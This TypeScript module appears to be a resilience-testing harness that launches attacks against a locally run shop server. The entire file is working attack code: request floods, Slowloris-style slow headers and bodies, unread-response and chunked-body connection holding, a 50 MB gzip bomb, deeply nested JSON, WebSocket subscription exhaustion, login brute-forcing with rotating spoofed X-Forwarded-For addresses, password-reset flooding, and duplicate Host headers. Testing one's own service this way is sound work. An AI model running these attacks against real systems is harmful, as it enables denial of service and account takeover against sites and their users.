import { randomUUID } from 'node:crypto';
import { Agent, request, type OutgoingHttpHeaders } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { WebSocket } from 'ws';

export interface AttackTarget {
  /** The URL of a shop on this machine; other shops are never attacked. */
  url: string;
  socketUrl: string;
  basket: Record<string, unknown>;
  /** The owner's email, which is often public. */
  email: string;
  /** The IP address from which the shop sees the attack. The attacker sends it as a trusted proxy would. */
  from: string;
  seconds: number;
}

/** Counts by outcome: `{ '201': 5, '429': 295 }`. */
export type AnswerCounts = Record<string, number>;
export type Attacker = (target: AttackTarget) => Promise<AnswerCounts>;

const agent = new Agent({ keepAlive: true, maxSockets: 64 });

interface Sent {
  method?: string;
  path: string;
  body?: unknown;
  headers?: OutgoingHttpHeaders;
}

/** Resolves to the response's status; `cut`: the connection ended without a response. */
function send({ url, from }: AttackTarget, { method = 'GET', path, body, headers }: Sent, by = agent): Promise<string> {
  const bytes = Buffer.isBuffer(body) ? body : body === undefined ? null : Buffer.from(JSON.stringify(body));
  const type = bytes && { 'content-type': 'application/json', 'content-length': bytes.length };
  return new Promise((resolve) => {
    const call = request(url + path, { method, agent: by, headers: { 'x-forwarded-for': from, ...type, ...headers } });
    call.on('response', (answer) => {
      answer.resume().on('error', () => {});
      answer.on('close', () => resolve(String(answer.statusCode)));
    });
    call.on('error', () => resolve('cut'));
    call.end(bytes ?? undefined);
  });
}

/** Starts this many calls per second, at most two hundred in parallel, and counts their outcomes. */
function flood(perSecond: number, one: (target: AttackTarget, n: number) => Promise<string>): Attacker {
  return async (target) => {
    const got: AnswerCounts = {};
    const open = new Set<Promise<void>>();
    const started = performance.now();
    for (let n = 0; n < perSecond * target.seconds; n += 1) {
      await sleep(Math.max(0, started + (n * 1000) / perSecond - performance.now()));
      if (open.size >= 200) await Promise.race(open);
      const call: Promise<void> = one(target, n).then((what) => {
        add(got, what);
        open.delete(call);
      });
      open.add(call);
    }
    await Promise.all(open);
    return got;
  };
}

/** Makes this many calls in parallel, and counts their outcomes. */
async function all(calls: number, one: (n: number) => Promise<string>): Promise<AnswerCounts> {
  const got: AnswerCounts = {};
  for (const what of await Promise.all(Array.from({ length: calls }, (_, n) => one(n)))) add(got, what);
  return got;
}

function add(got: AnswerCounts, what: string, times = 1): void {
  got[what] = (got[what] ?? 0) + times;
}

/**
 * Opens connections that write `first` once, and then `more` each second. Counts the accepted connections, the
 * responses by status, and the connections that are still open after `wait` milliseconds.
 */
function hold(count: number, wait: number, { first, more }: { first: string; more: string }): Attacker {
  return async ({ url }) => {
    const got: AnswerCounts = {};
    const sockets = await openAll(url, count, first, got, (socket) =>
      socket.once('data', (bytes) => add(got, /^HTTP\/1\.1 (\d{3})/.exec(String(bytes))?.[1] ?? 'no answer')),
    );
    const feeding = setInterval(() => {
      for (const socket of sockets) if (socket.writable && more !== '') socket.write(more);
    }, 1_000);
    await sleep(wait);
    clearInterval(feeding);
    return endAll(sockets, got);
  };
}

/** Opens connections that each request the largest file twice, and read no response for `wait` milliseconds. */
function leaveUnread(count: number, wait: number): Attacker {
  return async ({ url }) => {
    const got: AnswerCounts = {};
    // The largest file is the API page's script, which exceeds the kernel's buffers.
    const page = await (await fetch(`${url}/api`)).text();
    const file = /<script src="([^"]+)"/.exec(page)?.[1] ?? '/';
    // The shop drops the generated script from its memory after a while. This request makes the shop generate the
    // script before the attack.
    await (await fetch(url + file)).arrayBuffer();
    const asked = `GET ${file} HTTP/1.1\r\nhost: shop\r\n\r\n`.repeat(2);
    const sockets = await openAll(url, count, asked, got, (socket) => socket.pause());
    await sleep(wait);
    // Each socket is resumed, because a paused socket does not notice that the shop closed the connection.
    for (const socket of sockets) socket.resume();
    await sleep(3_000);
    return endAll(sockets, got);
  };
}

async function openAll(
  url: string,
  count: number,
  first: string,
  got: AnswerCounts,
  prepare: (socket: Socket) => Socket,
): Promise<Socket[]> {
  const { port, hostname } = new URL(url);
  const sockets: Socket[] = [];
  for (let n = 0; n < count; n += 1) {
    const socket = connect(Number(port), hostname).on('error', () => {});
    socket.once('connect', () => add(got, 'opened'));
    prepare(socket.resume()).write(first);
    sockets.push(socket);
    if (n % 50 === 49) await sleep(50);
  }
  return sockets;
}

function endAll(sockets: Socket[], got: AnswerCounts): AnswerCounts {
  const kept = sockets.filter(({ closed, readyState }) => !closed && readyState === 'open').length;
  for (const socket of sockets) socket.destroy();
  return { ...got, kept };
}

/** Keeps sockets open, all from one IP address. Each subscribes to the channels that `names` returns. */
function listeners(count: number, names: (n: number) => string[]): Attacker {
  return async ({ socketUrl, from, seconds }) => {
    const got: AnswerCounts = { opened: count, kept: 0, subscribed: 0 };
    const sockets: WebSocket[] = [];
    for (let n = 0; n < count; n += 1) {
      const socket = new WebSocket(socketUrl, { headers: { 'x-forwarded-for': from } });
      socket.on('error', () => {});
      socket.on('message', (bytes) => {
        const text = String(bytes);
        if (text.includes('subscription_succeeded')) add(got, 'subscribed');
        if (!text.includes('connection_established')) return;
        for (const channel of names(n)) {
          socket.send(JSON.stringify({ event: 'pusher:subscribe', data: { channel } }));
        }
      });
      sockets.push(socket);
      if (n % 20 === 19) await sleep(50);
    }
    await sleep(seconds * 1_000);
    got['kept'] = sockets.filter(({ readyState }) => readyState === WebSocket.OPEN).length;
    for (const socket of sockets) socket.terminate();
    return got;
  };
}

const bomb = gzipSync(Buffer.alloc(50 * 1024 * 1024, 0x20));
const phone = (n: number) => `07${String(700_000_000 + n)}`;
const order = (target: AttackTarget, n: number, change: Record<string, unknown> = {}): Sent => ({
  method: 'POST',
  path: '/v1/orders',
  body: { ...target.basket, contact: { name: 'Eve', phone: phone(n) }, session: randomUUID(), ...change },
});
const post = (path: string, type: string) => `POST ${path} HTTP/1.1\r\nhost: shop\r\ncontent-type: ${type}\r\n`;
const endless = `${(64 * 1024).toString(16)}\r\n${'x'.repeat(64 * 1024)}\r\n`;

export const attackers = {
  lists: flood(32, (target, n) =>
    send(target, { path: `/v1/categories?include=related&per_page=200&page=${1 + (n % 9)}&search=${n}` }),
  ),
  pages: flood(100, (target, n) => send(target, { path: `/menu?item=${randomUUID()}&n=${n}` })),
  orders: flood(60, (target) => send(target, order(target, 0))),
  cards: flood(10, (target, n) => send(target, order(target, n, { payment_method: 'card' }))),
  forged: flood(20, (target, n) => {
    const headers = { 'x-forwarded-for': `198.51.100.${n % 250}, ${target.from}` };
    return send(target, { ...order(target, n), headers });
  }),
  quotes: flood(200, (target) => send(target, { method: 'POST', path: '/v1/orders/quote', body: target.basket })),
  problems: flood(50, (target) => {
    const lines = Array.from({ length: 100 }, () => ({ item_id: randomUUID(), quantity: 1 }));
    return send(target, { method: 'POST', path: '/v1/orders/quote', body: { ...target.basket, lines } });
  }),
  nested: flood(50, (target) =>
    send(target, { method: 'POST', path: '/v1/orders', body: Buffer.from('['.repeat(32_000) + ']'.repeat(32_000)) }),
  ),
  sockets: listeners(1_000, () => []),
  channels: listeners(190, (n) => ['__proto__', ...Array.from({ length: 99 }, (_, at) => `made-up-${n}-${at}`)]),
  heads: hold(1_000, 14_000, { first: post('/v1/orders', 'application/json'), more: 'x-more: y\r\n' }),
  bodies: hold(500, 24_000, {
    first: `${post('/v1/orders', 'application/json')}content-length: 60000\r\n\r\n{`,
    more: ' ',
  }),
  readers: leaveUnread(300, 95_000),
  pipelines: hold(300, 3_000, { first: 'GET /menu HTTP/1.1\r\nhost: shop\r\n\r\n'.repeat(20), more: '' }),
  endless: hold(100, 6_000, {
    first: `${post('/v1/orders/quote', 'application/json')}transfer-encoding: chunked\r\n\r\n${endless.repeat(4)}`,
    more: endless,
  }),
  uploads: hold(100, 6_000, {
    first: `${post('/v1/uploads', 'image/png')}content-length: 8000000\r\n\r\n${'x'.repeat(256 * 1024)}`,
    more: 'x'.repeat(64 * 1024),
  }),
  bombs: flood(20, (target) =>
    send(target, { method: 'POST', path: '/v1/orders', body: bomb, headers: { 'content-encoding': 'gzip' } }),
  ),
  passwords: flood(20, (target, n) =>
    send(target, { method: 'POST', path: '/v1/auth/login', body: { email: target.email, password: `guess ${n}` } }),
  ),
  // Each call names another invented account, so that no account's own limit ends the attack.
  bursts: (target) =>
    all(180, (n) =>
      send(
        target,
        { method: 'POST', path: '/v1/auth/login', body: { email: `nobody${n}@example.com`, password: `guess ${n}` } },
        new Agent({ maxSockets: 1 }),
      ),
    ),
  botnet: flood(20, (target, n) =>
    send(target, {
      method: 'POST',
      path: '/v1/auth/login',
      body: { email: target.email, password: `guess ${n}` },
      headers: { 'x-forwarded-for': `198.18.${n >> 8}.${n & 255}` },
    }),
  ),
  resets: flood(20, (target) =>
    send(target, { method: 'POST', path: '/v1/auth/forgot-password', body: { email: target.email } }),
  ),
  hosts: hold(200, 3_000, { first: 'GET / HTTP/1.1\r\nHost: shop\r\nHost: evil.example\r\n\r\n', more: '' }),
} satisfies Record<string, Attacker>;

export type AttackName = keyof typeof attackers;
